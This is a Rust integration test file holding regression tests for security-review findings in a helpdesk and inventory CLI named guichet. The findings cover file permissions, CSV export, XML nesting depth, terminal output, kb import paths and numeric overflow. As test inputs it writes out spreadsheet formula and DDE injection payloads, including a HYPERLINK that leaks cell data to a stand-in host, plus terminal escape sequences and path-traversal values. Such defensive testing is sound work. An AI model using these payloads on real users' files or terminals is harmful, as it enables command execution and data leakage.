//! The security review's findings about this machine, through the real binary: the store's
//! files closed to other users, CSV cells a spreadsheet would run, a deeply nested XML file,
//! terminal escapes in printed text, `kb import` reading files outside its folder, and huge
//! numbers in a foreign inventory.

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// Runs guichet on `data` under umask 022 (the usual default, which makes files 0644).
fn guichet(data: &Path, args: &[&str]) -> Output {
    Command::new("sh")
        .arg("-c")
        .arg("umask 022 && exec \"$0\" \"$@\"")
        .arg(env!("CARGO_BIN_EXE_guichet"))
        .arg("--data-dir")
        .arg(data)
        .args(args)
        .env_remove("GUICHET_DATA_DIR")
        .env("USER", "alice")
        .output()
        .expect("run guichet")
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}
fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}
fn ok(o: &Output) -> String {
    assert!(o.status.success(), "{:?}: {}", o.status, stderr(o));
    stdout(o)
}

fn mode(p: &Path) -> u32 {
    std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o777
}

/// `dir` and everything under it.
fn tree(dir: &Path) -> Vec<PathBuf> {
    let mut out = vec![dir.to_path_buf()];
    let mut i = 0;
    while i < out.len() {
        if out[i].is_dir() {
            let mut entries: Vec<PathBuf> = std::fs::read_dir(&out[i])
                .unwrap()
                .map(|e| e.unwrap().path())
                .collect();
            out.append(&mut entries);
        }
        i += 1;
    }
    out
}

/// Every folder of `dir` 0700, every file 0600; the names of the files found.
fn assert_private(dir: &Path) -> Vec<String> {
    let mut names = Vec::new();
    for p in tree(dir) {
        let want = if p.is_dir() { 0o700 } else { 0o600 };
        assert_eq!(mode(&p), want, "{} is {:o}", p.display(), mode(&p));
        names.push(p.file_name().unwrap().to_string_lossy().into_owned());
    }
    names
}

/// A GLPI inventory JSON file of one machine.
fn glpi_file(dir: &Path, name: &str, content: serde_json::Value) -> PathBuf {
    let p = dir.join(name);
    let doc = serde_json::json!({"deviceid": format!("{name}-2026-01-01-00-00-00"),
        "action": "inventory", "itemtype": "Computer", "content": content});
    std::fs::write(&p, doc.to_string()).unwrap();
    p
}

/// Regression (security review): the data directory, `guichet.db`, its WAL and screenshots
/// and attachments followed the umask, 0755/0644, readable by every local user.
#[test]
fn store_files_are_private_to_their_owner() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let note = tmp.path().join("note.txt");
    let shot = tmp.path().join("screenshot.png");
    std::fs::write(&note, "the printer says E-23").unwrap();
    std::fs::write(&shot, b"\x89PNG\r\n\x1a\n a screenshot").unwrap();
    ok(&guichet(&data, &["ticket", "list"]));
    // A connection held open keeps the -wal and -shm files while the next command writes.
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let db = data.join("guichet.db");
    let conn = rt.block_on(async {
        use sqlx::{Connection as _, Executor as _};
        let mut c = sqlx::SqliteConnection::connect(&format!("sqlite:{}", db.display()))
            .await
            .unwrap();
        c.execute("SELECT count(*) FROM tickets").await.unwrap();
        c
    });
    let o = guichet(
        &data,
        &[
            "ticket",
            "new",
            "--title",
            "Printer",
            "--body",
            "Jams",
            "--attach",
            note.to_str().unwrap(),
            "--attach",
            shot.to_str().unwrap(),
        ],
    );
    ok(&o);
    let names = assert_private(&data);
    for expected in ["guichet.db", "guichet.db-wal", "guichet.db-shm", "blobs"] {
        assert!(names.iter().any(|n| n == expected), "{expected}: {names:?}");
    }
    let blobs = tree(&data.join("blobs"))
        .into_iter()
        .filter(|p| p.is_file())
        .count();
    assert_eq!(blobs, 2, "the attachment and the screenshot");
    rt.block_on(async {
        use sqlx::Connection as _;
        conn.close().await.unwrap();
    });
}

/// Regression (security review): a store left open by an earlier version or a umask is closed
/// when it is next opened, and the CLI says so once.
#[test]
fn store_with_open_modes_is_fixed_at_start() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let shot = tmp.path().join("screenshot.png");
    std::fs::write(&shot, b"\x89PNG a screenshot").unwrap();
    let new = ["ticket", "new", "--title", "T", "--body", "B", "--attach"];
    let mut args = new.to_vec();
    args.push(shot.to_str().unwrap());
    ok(&guichet(&data, &args));
    let set = |p: &Path, m: u32| {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap();
    };
    let all = tree(&data);
    for p in &all {
        set(p, if p.is_dir() { 0o755 } else { 0o644 });
    }
    let o = guichet(&data, &["ticket", "list"]);
    ok(&o);
    let warned = stderr(&o);
    assert!(
        warned.contains("other users could read")
            && warned.contains(&format!("{} files and folders", all.len())),
        "{warned}"
    );
    assert_private(&data);
    let o = guichet(&data, &["ticket", "list"]);
    ok(&o);
    assert!(
        !stderr(&o).contains("other users"),
        "said once: {}",
        stderr(&o)
    );
}

/// Regression (security review): host names, serials, notes and software names from imported
/// files went into CSV exports unchanged, and a spreadsheet runs `=HYPERLINK(…)` when opened.
#[test]
fn csv_export_neutralises_formulas() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let file = glpi_file(
        tmp.path(),
        "evil.json",
        serde_json::json!({
            "hardware": {"name": "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")"},
            "bios": {"ssn": "+cmd|' /C calc'!A0", "smanufacturer": "@vendor", "smodel": "-model"},
            "softwares": [{"name": "@SUM(1+1)*cmd|' /C calc'!A0", "version": "-1+2"}]
        }),
    );
    ok(&guichet(&data, &["site", "import", file.to_str().unwrap()]));
    ok(&guichet(
        &data,
        &[
            "asset",
            "add",
            "--type",
            "screen",
            "--notes=-2+3+cmd|' /C calc'!A0",
        ],
    ));
    let out = tmp.path().join("site.csv");
    ok(&guichet(
        &data,
        &[
            "site",
            "export",
            "--format",
            "csv",
            "--output",
            out.to_str().unwrap(),
        ],
    ));
    let csv = std::fs::read_to_string(&out).unwrap();
    let cells: Vec<String> = csv::Reader::from_reader(csv.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect();
    for expected in [
        "'=HYPERLINK(\"http://x.test/?\"&A1,\"click\")",
        "'+cmd|' /C calc'!A0",
        "'@vendor",
        "'-model",
        "'-2+3+cmd|' /C calc'!A0",
    ] {
        assert!(cells.iter().any(|c| c == expected), "{expected:?} in {csv}");
    }
    for c in &cells {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{c:?} in {csv}"
        );
    }
    // The software list of that machine, as the app exports it.
    let imported =
        guichet_inventory::import::import_file(&std::fs::read(&file).unwrap(), chrono::Utc::now())
            .unwrap();
    let soft = guichet_inventory::software_csv(&imported.inventory);
    assert!(
        soft.contains("'@SUM(1+1)*cmd|' /C calc'!A0,'-1+2"),
        "{soft}"
    );
}

/// Regression (security review): an OCS XML file nested 300,000 levels deep overflowed the
/// stack and killed the process (and the app).
#[test]
fn deeply_nested_xml_is_refused_not_a_crash() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let levels = 300_000;
    let xml = format!(
        "<REQUEST><CONTENT>{}{}</CONTENT></REQUEST>",
        "<A>".repeat(levels),
        "</A>".repeat(levels)
    );
    let file = tmp.path().join("deep.xml");
    std::fs::write(&file, xml).unwrap();
    let o = guichet(&data, &["site", "import", file.to_str().unwrap()]);
    assert_eq!(
        o.status.code(),
        Some(2),
        "an exit, not a signal: {:?}",
        o.status
    );
    assert!(
        stderr(&o).contains("nests elements more than 64 levels deep"),
        "{}",
        stderr(&o)
    );
    // JSON as deep: serde_json's own depth limit answers.
    let json = format!(
        "{{\"content\":{{\"hardware\":{}1{}}}}}",
        "[".repeat(levels),
        "]".repeat(levels)
    );
    std::fs::write(&file, json).unwrap();
    let o = guichet(&data, &["site", "import", file.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{:?}: {}", o.status, stderr(&o));
    assert!(stderr(&o).contains("recursion limit"), "{}", stderr(&o));
}

/// Regression (security review): `&#27;` in an article became a raw escape character, which
/// `kb show` printed: a server or a bundle could retitle the terminal or rewrite its screen.
#[test]
fn terminal_escapes_from_an_article_are_not_printed() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let file = tmp.path().join("kb.json");
    let articles = serde_json::json!([{
        "remote_id": "esc-1",
        "title": "Printer \u{1b}]0;owned\u{7} setup",
        "updated_at": "2026-11-01T09:00:00Z",
        "body_html": "<p>Step &#27;[2J&#x1b;]0;pwned&#7; one\u{9b}31m</p><pre>keep\tthis\nand \u{1b}[31mthat</pre>"
    }]);
    std::fs::write(&file, articles.to_string()).unwrap();
    ok(&guichet(&data, &["kb", "import", file.to_str().unwrap()]));
    let outputs = [
        ok(&guichet(&data, &["kb", "show", "esc-1"])),
        ok(&guichet(&data, &["kb", "show", "--text", "esc-1"])),
        ok(&guichet(&data, &["kb", "show", "--html", "esc-1"])),
        ok(&guichet(&data, &["kb", "list"])),
        ok(&guichet(&data, &["kb", "search", "step"])),
    ];
    for out in &outputs {
        assert!(
            !out.chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t'),
            "{out:?}"
        );
    }
    assert!(
        outputs[1].contains("keep\tthis\nand [31mthat"),
        "{:?}",
        outputs[1]
    );
    assert!(
        outputs[1].contains("Step [2J]0;pwned one31m"),
        "{:?}",
        outputs[1]
    );
}

/// Regression (security review): `kb import` read each article's image from any path the
/// import file named, absolute or with `..`, and stored it for the next sync to publish.
#[test]
fn kb_import_refuses_images_outside_its_folder() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let folder = tmp.path().join("kb");
    std::fs::create_dir(&folder).unwrap();
    let secret = tmp.path().join("secret.txt");
    std::fs::write(&secret, "not for the knowledge base").unwrap();
    std::fs::write(folder.join("shot.png"), b"\x89PNG shot").unwrap();
    std::os::unix::fs::symlink(&secret, folder.join("link.png")).unwrap();
    let import = |image: &str| {
        let articles = serde_json::json!([{
            "remote_id": "a-1", "title": "A", "updated_at": "2026-11-01T09:00:00Z",
            "body_html": "<p>x</p>",
            "images": [{"url": "i.png", "content_type": "image/png", "file": image}]
        }]);
        let file = folder.join("kb.json");
        std::fs::write(&file, articles.to_string()).unwrap();
        guichet(&data, &["kb", "import", file.to_str().unwrap()])
    };
    for bad in [secret.to_str().unwrap(), "../secret.txt", "link.png"] {
        let o = import(bad);
        assert_eq!(o.status.code(), Some(2), "{bad}: {}", stderr(&o));
        assert!(
            stderr(&o).contains("is not inside the import file's folder"),
            "{bad}: {}",
            stderr(&o)
        );
    }
    let o = guichet(&data, &["--json", "kb", "list"]);
    assert_eq!(ok(&o).trim(), "[]", "nothing imported");
    ok(&import("shot.png"));
    ok(&import("./shot.png"));
}

/// Regression (security review): sizes in MiB from a foreign inventory were multiplied
/// unchecked (`n(..) * MIB`): a huge value panicked (debug) or wrapped to a wrong size.
#[test]
fn foreign_inventory_huge_numbers_do_not_overflow() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let file = glpi_file(
        tmp.path(),
        "huge.json",
        serde_json::json!({
            "hardware": {"name": "huge", "memory": "18446744073709551615",
                         "swap": 1e300},
            "memories": [{"capacity": 18446744073709551615u64}, {"capacity": 1e30}],
            "storages": [{"name": "sda", "disksize": "99999999999999999999"}],
            "drives": [{"volumn": "/", "total": 18446744073709551615u64, "free": 1e40}]
        }),
    );
    let o = guichet(&data, &["--json", "site", "import", file.to_str().unwrap()]);
    let r: serde_json::Value = serde_json::from_str(&ok(&o)).unwrap();
    assert_eq!(r[0]["outcome"], "new", "{r}");
    let o = guichet(&data, &["--json", "site", "show", "huge"]);
    let v: serde_json::Value = serde_json::from_str(&ok(&o)).unwrap();
    let text = v.to_string();
    assert!(!text.contains("18446744073709551615"), "{text}");
    ok(&guichet(&data, &["site", "list", "--ram-below", "8G"]));
}
